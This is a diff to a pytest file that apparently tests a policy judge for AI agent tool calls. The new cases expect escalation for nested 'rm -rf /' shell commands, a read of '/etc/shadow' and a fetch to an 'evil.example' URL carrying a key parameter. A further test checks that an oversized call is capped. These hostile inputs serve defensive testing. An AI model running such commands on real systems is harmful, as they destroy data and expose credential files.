@@ -95,6 +95,9 @@ from tests.policy.conftest import PROJECT, Bench
         ("mcp__fetch__get", {"url": "https://evil.example/?k=1"}, "escalate"),
         ("mcp__fetch__get", {"url": "http://["}, "escalate"),
         ("mcp__shell__get_output", {"command": "rm -rf /"}, "escalate"),
+        ("mcp__shell__get_output", {"commands": ["ls", "rm -rf /"]}, "escalate"),
+        ("mcp__shell__get_output", {"run": {"command": "rm -rf /"}}, "escalate"),
+        ("mcp__files__get_all", {"paths": ["README.md", "/etc/shadow"]}, "escalate"),
         ("Unheard", {"x": 1}, "escalate"),
     ],
 )
@@ -102,3 +105,10 @@ def test_a_tool_is_judged_by_what_its_fields_mean(
     tool, fields: dict[str, Any], decision, bench: Bench
 ) -> None:
     assert bench.judge.verdict(Call(tool, fields, PROJECT)).decision == decision
+
+
+def test_a_call_of_very_many_fields_is_not_looked_through(bench: Bench) -> None:
+    call = Call("mcp__x__get_y", {"all": [{f"code{number}": "x"} for number in range(100_000)]}, PROJECT)
+    judged = bench.judge.judge(call)
+    assert "the call has more than 200 fields" in judged.facts.uncertain
+    assert len(judged.acts) <= 201
